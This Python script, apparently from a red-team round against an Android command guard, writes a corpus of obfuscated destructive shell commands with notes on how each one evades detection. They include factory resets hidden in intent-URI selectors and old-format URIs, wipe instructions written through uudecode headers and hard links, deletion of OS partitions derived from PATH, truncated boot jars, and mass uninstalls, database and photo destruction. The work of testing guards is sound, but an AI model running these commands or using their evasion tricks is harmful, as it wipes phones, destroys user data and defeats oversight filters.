#!/usr/bin/env python3
"""Round 7, attacker C (Android routes): the corpus as Python data.

Writes corpus.jsonl (every line proven by prove.py in the tests/sandbox jail) and unprovable.jsonl
(harmful on a phone, not judged by the sandbox). The command text never goes through a host shell.
Also checks that no cmd repeats a line of the earlier corpora (tests/guard/**, attack/r[2-6]*).
"""
import base64
import glob
import json
import pathlib

HERE = pathlib.Path(__file__).resolve().parent

# A bootloader control block: command "boot-recovery" (32 bytes), status (32), then the recovery
# field "recovery\n--wipe_data\n" NUL-terminated -- what RecoverySystem writes for a reset.
BCB = b"boot-recovery".ljust(64, b"\0") + b"recovery\n--wipe_data\n\0"
B64_BCB = base64.b64encode(BCB).decode()
B64_CMD = base64.b64encode(b"--wipe_data\n").decode()
B64_USERS = base64.b64encode(b'<users nextSerialNumber="10"/>\n').decode()

R = []


def add(family, cmd, note, shells=None, why=None):
    d = {"family": family, "cmd": cmd, "note": note}
    if shells:
        d["shells"] = shells
        d["shells_why"] = why
    R.append(d)


# --- selector: the SEL field of an intent URI -------------------------------------------------
add("selector",
    "am broadcast 'intent:#Intent;action=android.intent.action.MAIN;SEL;component=android/com.android.server.Master%43learReceiver;end'",
    "Intent.parseUri: fields after `SEL;` build the *selector* intent. The base intent is a harmless MAIN with no "
    "component; the package manager resolves a broadcast through its selector when the base has no component "
    "(queryIntentReceivers), so the explicit selector component MasterClearReceiver (percent-encoded C) receives "
    "the MAIN intent and wipes the phone (its only check is for the c2dm action).")
add("selector",
    "cmd activity broadcast --user 0 'intent:#Intent;action=android.intent.action.VIEW;SEL;action=android.intent.action.%46ACTORY%5FRESET;package=android;end'",
    "Selector intent carries the reset action (encoded F and _) and package=android; the broadcast the shell "
    "appears to send is a VIEW. Receivers are resolved from the selector: MasterClearReceiver gets it and wipes.")
add("selector",
    "am start-activity 'intent:#Intent;action=android.intent.action.VIEW;category=android.intent.category.BROWSABLE;SEL;component=com.android.settings/.Settings%24FactoryResetActivity;end'",
    "Looks like opening a browsable link (VIEW + BROWSABLE); the selector names Settings$FactoryResetActivity ($ as "
    "%24), and activity resolution uses the selector when the base has no component: the factory-reset screen.")
add("selector",
    "am broadcast 'intent:#Intent;action=android.intent.action.MAIN;SEL;action=com.google.android.c2dm.intent.RECEIVE;category=android.intent.category.%4DASTER%5FCLEAR;package=android;end'",
    "MasterClearReceiver's remote-wipe filter (c2dm RECEIVE + category MASTER_CLEAR) matched through the selector; "
    "the intent actually delivered has action MAIN, so the receiver's `from=google.com` check (made only for the "
    "c2dm action) is skipped and it wipes.")

# --- selector-opt: am's --selector option ------------------------------------------------------
add("selector-opt",
    "am broadcast -a android.intent.action.VIEW --selector -n android/com.android.server.MasterClearReceiver",
    "am's `--selector`: every option after it describes the selector intent, not the one sent. The broadcast is "
    "a VIEW with no component; its selector's component MasterClearReceiver is where it is delivered: reset.")
add("selector-opt",
    "cmd activity start-activity -a android.intent.action.VIEW -d https://support.google.com/android --selector -n 'com.android.settings/.Settings$FactoryResetActivity'",
    "Reads as opening a support web page; `--selector -n` makes the reset activity the one resolved and started.")

# --- uri-last-hash: Intent.parseUri takes the LAST '#' ------------------------------------------
add("uri-last-hash",
    "am broadcast 'intent:#Intent;action=android.intent.action.VIEW;end#Intent;action=android.intent.action.MAIN;component=android/com.android.server.MasterClearReceiver;end'",
    "parseUri uses uri.lastIndexOf('#'): the first, harmless `#Intent;…;end` is only the data part; the intent is "
    "the second fragment, explicit to MasterClearReceiver. A reader taking the first fragment sees a VIEW.")
add("uri-last-hash",
    "am start 'intent:#Intent;action=android.intent.action.VIEW;S.url=https://support.google.com;end#Intent;component=com.android.settings/.Settings$FactoryResetActivity;end'",
    "Same rule for an activity: the first fragment (VIEW with a URL extra) is data; the last fragment's component "
    "Settings$FactoryResetActivity is what starts.")

# --- uri-old-format: Intent.getIntentOld ---------------------------------------------------------
add("uri-old-format",
    "am broadcast 'intent:#action(android.intent.action.MAIN)component(android!com.android.server.MasterClearReceiver)'",
    "An `intent:` URI whose fragment is not `#Intent;` is parsed by Intent.getIntentOld: `action(…)` and "
    "`component(PKG!CLASS)` with `!` as the separator. No `-n`, no `component=`, no `/`: an explicit broadcast to "
    "MasterClearReceiver with action MAIN, which wipes.")
add("uri-old-format",
    "cmd activity broadcast 'intent:#action(android.intent.action.MASTER_CLEAR)component(android!com.android.server.MasterClearReceiver)'",
    "The old URI format through cmd activity: action MASTER_CLEAR and the receiver as `android!…` (explicit, so "
    "the data `intent:` that getIntentOld leaves on it does not matter).")
add("uri-old-format",
    "am start-activity 'intent:#component(com.android.settings!com.android.settings.Settings$FactoryResetActivity)'",
    "Old-format component only: Settings$FactoryResetActivity started from `component(pkg!class)`.")

# --- app-process: --application between the directory and the class ---------------------------
add("app-process",
    "CLASSPATH=/system/framework/am.jar app_process /system/bin --application com.android.commands.am.Am broadcast 'intent:#Intent;action=android.intent.action.MAIN;SEL;component=android/com.android.server.%4Daster%43learReceiver;end'",
    "app_process's own `--application` flag (earlier rounds used --nice-name and VM options) before Am's class; "
    "Am sends the selector URI: MasterClearReceiver (M and C encoded) resolved through SEL.")

# --- uid-set: packages named by uid -------------------------------------------------------------
add("uid-set",
    "for u in $(seq 10101 10104); do pm list packages --uid $u | while IFS=: read -r _ p; do pm uninstall --user 0 \"$p\"; done; done",
    "`pm list packages --uid UID` (Android 10+) prints the package(s) of that uid: a range of app uids is four "
    "installed apps, never named. Each is uninstalled for user 0. (The sandbox's pm ignores --uid and lists all.)")
add("uid-set",
    "u=10100; while [ $((u+=1)) -le 10110 ]; do cmd package list packages --uid $u | cut -c9- | xargs -n1 cmd package clear; done",
    "The uid range counted with `$((u+=1))` in the loop test; cmd package's --uid filter gives the package of each "
    "app uid 10101-10110, and every one is cleared.")

# --- pick-subset: the set chosen by chance or recency ---------------------------------------------
add("pick-subset",
    "pm list packages -3 | shuf -n 4 | cut -d: -f2 | while read p; do pm uninstall $p; done",
    "Four random user apps (`shuf -n 4`) uninstalled: a device-computed set no one can read from the text.")
add("pick-subset",
    "ls -t /data/data | head -n 4 | xargs -n1 pm clear",
    "The four app data directories changed most recently (`ls -t`): 'reset the apps I used today'.")
add("pick-subset",
    "ls -tu /data/user_de/0 | tail -n 4 | while read p; do cmd package clear $p; done",
    "The four least recently accessed apps (`ls -tu` access time, `tail`), from the device-encrypted data dir.")

# --- store-link: package names as store links ---------------------------------------------------
add("store-link",
    "for u in 'https://play.google.com/store/apps/details?id=com.whatsapp' 'https://play.google.com/store/apps/details?id=com.spotify.music' 'https://play.google.com/store/apps/details?id=com.example.app' 'https://play.google.com/store/apps/details?id=com.example.other'; do pm uninstall \"${u#*id=}\"; done",
    "Four Play Store links; `${u#*id=}` keeps the package: 4 packages uninstalled. No package is an argument of pm "
    "in the text, only parts of URLs.")
add("store-link",
    "for u in market://details?id=com.example.app market://details?id=com.example.other market://details?id=com.whatsapp market://details?id=com.spotify.music; do pm clear ${u##*=}; done",
    "`market://details?id=` links (unquoted: the `?` glob matches nothing and stays); 4 apps cleared.")

# --- domain-set: names as web domains reversed on the device -----------------------------------
add("domain-set",
    "for d in whatsapp.com music.spotify.com app.example.com other.example.com; do pm clear $(echo $d | awk -F. '{for(i=NF;i>0;i--)printf \"%s%s\",$i,(i>1?\".\":\"\")}'); done",
    "Package names are reversed domain names: four domains, reversed by awk on the device, give com.whatsapp, "
    "com.spotify.music, com.example.app, com.example.other; all cleared. No package name is written.")

# --- path-list: Android's PATH lists the OS partitions -------------------------------------------
add("path-list",
    "IFS=:; for d in $PATH; do rm -rf \"${d%/*}\"; done",
    "adbd's PATH is /product/bin:/apex/com.android.runtime/bin:/system/bin:/system/xbin:/vendor/bin; the parent of "
    "each entry is /product, /apex/…, /system, /vendor: every OS partition deleted, none written.")
add("path-list",
    "a=${PATH#*:}; rm -rf ${a%%/com*}/*/javalib",
    "The second PATH entry cut at `/com` is /apex; `/apex/*/javalib` is the ART module's boot class path "
    "(core-oj.jar): the runtime is gone.")
add("path-list",
    "v=${PATH##*:}; rm -rf ${v%/bin}",
    "The last PATH entry minus /bin: /vendor deleted.")

# --- partition-glob: every partition at once ------------------------------------------------------
add("partition-glob",
    "for f in /*/etc/build.prop; do echo ro.adb.secure=0 >> $f; done",
    "`/*/etc/build.prop` is the build.prop of /odm and /system_ext (partitions no corpus touched): a property "
    "appended to each image's build.prop.")
add("partition-glob",
    "for j in /*/*/javalib/*.jar /*/framework/*.jar; do : > \"$j\"; done",
    "Every boot class path jar (APEX javalib: core-oj.jar; /system/framework: framework.jar) truncated: the "
    "phone no longer boots.")
add("partition-glob",
    "sed -i '$a ro.debuggable=1' /*/build.prop",
    "sed appends a property to /system, /vendor and /product build.prop (one glob over all partitions).")

# --- glob-prog: the Android program's own path as a glob ------------------------------------------
add("glob-prog",
    "/bin/c[m]d testharness enable",
    "The program is a bracket glob through the /bin link (/bin/cmd): test-harness mode, which wipes the device.")
add("glob-prog",
    "/s*/b*/p[m] remove-user 10",
    "`/s*/b*/p[m]` globs to /system/bin/pm: user 10 and its data removed.")
add("glob-prog",
    "/*/bin/[c]md user remove-user 11",
    "`/*/bin/[c]md` (only /system/bin has cmd): cmd user remove-user 11.")
add("glob-prog",
    "/system/bin/[a]m broadcast -p android -a android.intent.action.MASTER_CLEAR",
    "am as `[a]m`: a reader keyed on the program word `am` does not see a broadcast; MASTER_CLEAR to android.")

# --- link-target: the Android directory links read on the device ----------------------------------
add("link-target",
    "$(readlink /bin)/pm remove-user 10",
    "Android's /bin is a link to /system/bin; its target read by readlink is the program directory: pm remove-user.")
add("link-target",
    "echo --wipe_data > $(readlink /cache)/recovery/command",
    "/cache is a link to /data/cache on current phones; the recovery command file written through readlink's "
    "answer: the next reboot to recovery wipes data.")

# --- uudecode: the target path is inside the encoded data -------------------------------------------
add("uudecode",
    "printf 'begin-base64 644 /cache/recovery/command\\nLS13aXBlX2RhdGEK\\n====\\n' | uudecode",
    "uudecode writes to the path named in its `begin-base64` header: the recovery command file gets "
    "`--wipe_data` (base64). The path is data to printf, and uudecode has no file operand.")
add("uudecode",
    "printf 'begin-base64 600 /dev/block/by-name/misc\\n%s\\n====\\n' " + B64_BCB + " | uudecode",
    "A bootloader control block (boot-recovery + `recovery\\n--wipe_data`) base64-encoded, written by uudecode to "
    "the misc partition named in the header: the phone reboots into a wipe.")
add("uudecode",
    "printf 'begin-base64 600 /data/system/users/0.xml\\n%s\\n====\\n' " + B64_USERS + " | uudecode",
    "The owner user's record /data/system/users/0.xml replaced through uudecode's header path.")

# --- hardlink: the toybox/busybox `link` applet ----------------------------------------------------
add("hardlink",
    "printf '%s\\n' --wipe_data --locale=en_US > /data/local/tmp/c && link /data/local/tmp/c /cache/recovery/command",
    "The `link` applet (link(2), no ln): the recovery command file appears as a second name of a scratch file "
    "holding --wipe_data (same filesystem: /cache is /data/cache).")
add("hardlink",
    "link /data/system/packages.xml /data/local/tmp/p.xml && : > /data/local/tmp/p.xml",
    "A hard link to packages.xml made in the scratch dir; truncating the scratch name truncates the package "
    "database (same inode). The only write names /data/local/tmp.")

# --- script-operand: am/pm are shell scripts on Android --------------------------------------------
add("script-operand",
    "sh /system/bin/pm remove-user 10",
    "/system/bin/pm is a script (`cmd package \"$@\"`): run as an operand of sh, the program word is `sh`.")
add("script-operand",
    "pm list packages -3 | cut -c9- | xargs -n1 sh /system/bin/pm uninstall",
    "xargs runs `sh` with the pm script as its file operand, once per user app: every user app uninstalled.")
add("script-operand",
    "\"$SHELL\" -e /bin/am start -n 'com.android.settings/.Settings$FactoryResetActivity'",
    "The am script run by \"$SHELL\" -e through the /bin link: the factory-reset activity.")

# --- compress: in-place compressors delete what they compress --------------------------------------
add("compress",
    "bzip2 /data/data/*/databases/*.db /data/user_de/0/*/databases/*.db",
    "bzip2 replaces each file with FILE.bz2 and removes the original: every app's databases are gone.")
add("compress",
    "bzip2 /data/system/packages.xml /data/system/users/*.xml",
    "The package database and the user records compressed away by bzip2.")
add("compress",
    "lzop -U /data/system/packages.xml",
    "busybox lzop with -U deletes the input after compressing it: packages.xml removed.")
add("compress",
    "bzip2 /sdcard/DCIM/* /sdcard/DCIM/*/*",
    "Every photo directly in DCIM and in its subfolders replaced by a .bz2 the gallery cannot read (all of DCIM).")

# --- df-block: the /data device from df ---------------------------------------------------------------
add("df-block",
    "dd if=/dev/zero of=$(df | awk '$6==\"/data\"{print $1}') bs=4096 count=16 conv=notrunc",
    "df's mount table gives the block device under /data (dm-N, userdata); zeros written over its start.")

# --- du-storage: the biggest storage folder -----------------------------------------------------------
add("du-storage",
    "rm -rf \"$(du -s /sdcard/* | sort -n | tail -n 1 | cut -f2)\"",
    "'Free space: delete the biggest folder': du picks a top-level storage folder (DCIM or Download on a phone).")

# --- user-src: user ids from /mnt/pass_through ----------------------------------------------------------
add("user-src",
    "for u in /mnt/pass_through/*; do cmd user remove-user ${u##*/}; done",
    "/mnt/pass_through has one directory per running user (0, 10, a work profile…): every one removed (0 fails on "
    "a phone; the sandbox has only user 0).")

# --- run-as-loop: run-as over a package set ------------------------------------------------------------
add("run-as-loop",
    "pm list packages -3 | cut -d: -f2 | while read p; do run-as $p rm -rf databases; done",
    "run-as starts in each app's data dir: a loop over the user apps deletes every app's databases.")
add("run-as-loop",
    "ls /data/data | while read p; do run-as $p sh -c 'rm -rf ./*'; done",
    "The same over every data directory, with the app's files named only as `./*`.")

# --- fifo: the package list through a named pipe ---------------------------------------------------------
add("fifo",
    "cd /data/local/tmp && mkfifo q && { cmd package list packages -3 > q & } && while read -r l; do cmd package uninstall ${l#*:}; done < q",
    "The package list reaches the loop through a FIFO (mkfifo) written by a background job: all user apps removed.")

# --- printenv: storage path from printenv ----------------------------------------------------------------
add("printenv",
    "rm -rf \"$(printenv EXTERNAL_STORAGE)\"/Download",
    "The storage root read by the printenv program (not a shell expansion): /sdcard/Download deleted.")

# --- mksh builtins ---------------------------------------------------------------------------------------
add("mksh-builtin",
    "read -A a <<'X'\ncmd testharness enable\nX\n\"${a[@]}\"",
    "mksh's `read -A` splits a here-document line into an array, which is run as the command: test harness.",
    ["mksh"], "`read -A` and arrays are mksh (Android's sh); busybox sh has neither.")
add("mksh-builtin",
    "$(whence -p cmd) testharness enable",
    "mksh's `whence -p` prints the program's path: cmd testharness enable.",
    ["mksh"], "`whence` is a mksh builtin; busybox sh has no whence.")


UNPROVABLE = [
    {"family": "cmd-recovery", "cmd": "cmd recovery wipe f2fs",
     "note": "RecoverySystemShellCommand `wipe` (Android 14+) reboots into recovery with --wipe_data (and "
             "--reformat_data=f2fs).",
     "why": "the stub logs `cmd recovery wipe f2fs`, which no wipe rule matches (they need the wipe_data word)"},
    {"family": "media-store", "cmd": "content query --uri content://media/external/file --projection _data | sed -n 's/.*_data=//p' | while read f; do rm -f \"$f\"; done",
     "note": "Every file MediaStore knows (all of shared storage) deleted by path.",
     "why": "the content stub prints no rows"},
    {"family": "adoptable", "cmd": "sm forget all",
     "note": "StorageManager forgets every adopted storage volume and destroys its keys: its data is lost.",
     "why": "the sm stub only logs; no rule covers `forget`"},
    {"family": "binder-user", "cmd": "service call user 5 i32 10",
     "note": "IUserManager.removeUser(10) by transaction number (the number depends on the release).",
     "why": "the sandbox counts only pm / cmd user remove-user"},
    {"family": "source-script", "cmd": "set -- broadcast -n android/com.android.server.MasterClearReceiver; . /system/bin/am",
     "note": "The am script sourced with positional parameters: it runs `cmd activity \"$@\"`.",
     "why": "the stub dispatches on $0, which is the shell when sourced"},
    {"family": "query-receivers", "cmd": "am broadcast -n \"$(cmd package query-receivers --components -a android.intent.action.FACTORY_RESET | tail -n 1)\"",
     "note": "The reset receiver's component is asked of the package manager, then sent an explicit broadcast.",
     "why": "the cmd stub prints nothing for query-receivers, so the broadcast gets an empty -n; prove.py marks it `yes` only because the wipe rule matches FACTORY_RESET in the query's own argv, which is not the harm"},
    {"family": "art-root", "cmd": "rm -rf $ANDROID_ART_ROOT/javalib",
     "note": "adbd's environment has ANDROID_ART_ROOT=/apex/com.android.art: the runtime's boot jars deleted.",
     "why": "the sandbox does not export ANDROID_ART_ROOT (the path becomes /javalib)"},
]


def main():
    prior = set()
    files = glob.glob("tests/guard/**/*.jsonl", recursive=True)
    files += [f for f in glob.glob("attack/r*/**/*.jsonl", recursive=True) if "/r7" not in f]
    for f in files:
        for line in open(f):
            line = line.strip()
            if line:
                try:
                    prior.add(json.loads(line).get("cmd"))
                except ValueError:
                    pass
    dup = [r["cmd"] for r in R if r["cmd"] in prior]
    assert not dup, dup
    assert len({r["cmd"] for r in R}) == len(R)
    (HERE / "corpus.jsonl").write_text("".join(json.dumps(r) + "\n" for r in R))
    (HERE / "unprovable.jsonl").write_text("".join(json.dumps(r) + "\n" for r in UNPROVABLE))
    fams = {}
    for r in R:
        fams[r["family"]] = fams.get(r["family"], 0) + 1
    print(f"corpus.jsonl: {len(R)} lines; unprovable.jsonl: {len(UNPROVABLE)}; checked against {len(prior)} earlier lines")
    print(", ".join(f"{k} {v}" for k, v in fams.items()))


if __name__ == "__main__":
    main()
